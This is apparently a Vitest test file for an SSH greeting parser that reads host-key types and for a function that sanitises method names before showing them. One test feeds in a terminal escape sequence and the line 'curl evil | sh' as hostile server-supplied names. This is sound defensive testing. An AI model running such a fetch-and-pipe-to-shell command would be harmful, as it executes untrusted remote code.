import { describe, expect, it } from 'vitest';
import { GreetingReader, methodNames } from './greeting.js';

function nameList(...names: string[]): Buffer {
  const text = Buffer.from(names.join(','));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(text.length);
  return Buffer.concat([length, text]);
}

function greeting(identification: string, ...keyTypes: string[]): Buffer {
  const payload = Buffer.concat([
    Buffer.from([20]),
    Buffer.alloc(16),
    nameList('kex-a', 'kex-b'),
    nameList(...keyTypes),
  ]);
  const header = Buffer.alloc(5);
  header.writeUInt32BE(payload.length + 1 + 4);
  header[4] = 4;
  return Buffer.concat([Buffer.from(identification), header, payload, Buffer.alloc(4)]);
}

describe('GreetingReader', () => {
  it('reads the types of host key, even when bytes come one by one', () => {
    const reader = new GreetingReader();
    const found: string[][] = [];

    for (const byte of greeting('SSH-2.0-Test\r\n', 'ssh-ed25519', 'rsa-sha2-512')) {
      const offer = reader.push(Buffer.from([byte]));
      if (offer) found.push([...offer.hostKeys]);
    }

    expect(found).toEqual([['ssh-ed25519', 'rsa-sha2-512']]);
  });

  it('skips lines before the identification', () => {
    const types = new GreetingReader().push(greeting('welcome\r\nbe nice\r\nSSH-2.0-Test\n', 'ssh-rsa'));

    expect(types?.hostKeys).toEqual(['ssh-rsa']);
  });

  it('answers an empty list for a server without host keys', () => {
    expect(new GreetingReader().push(greeting('SSH-2.0-Test\r\n'))?.hostKeys).toEqual([]);
  });

  it('finds no keys in data that is not SSH, of any length', () => {
    const reader = new GreetingReader();

    expect(reader.push(Buffer.alloc(100_000, 'x\n'))).toBeUndefined();
    expect(reader.push(greeting('SSH-2.0-Test\r\n', 'ssh-rsa'))).toBeUndefined();
  });

  it('finds nothing when the first packet is cut short inside', () => {
    const packet = Buffer.from([0, 0, 0, 6, 0, 20, 1, 2, 3, 4]);

    expect(new GreetingReader().push(Buffer.concat([Buffer.from('SSH-2.0-T\r\n'), packet]))).toBeUndefined();
  });
});

describe('methodNames', () => {
  it('shows only what looks like a name of a method', () => {
    const names = ['sntrup761x25519-sha512@openssh.com', '\u001b]0;x\u0007', 'Run: curl evil | sh', 'x'.repeat(65)];

    expect(methodNames(names)).toBe('sntrup761x25519-sha512@openssh.com and 3 more');
    expect(methodNames(names.slice(1))).toBe('(none) and 3 more');
    expect(methodNames([])).toBe('(none)');
  });

  it('shows no more than twenty of ten thousand', () => {
    const text = methodNames(Array.from({ length: 10_000 }, (_, i) => `a${i}`));

    expect(text).toMatch(/^a0, a1, .*, a19 and 9980 more$/);
  });
});
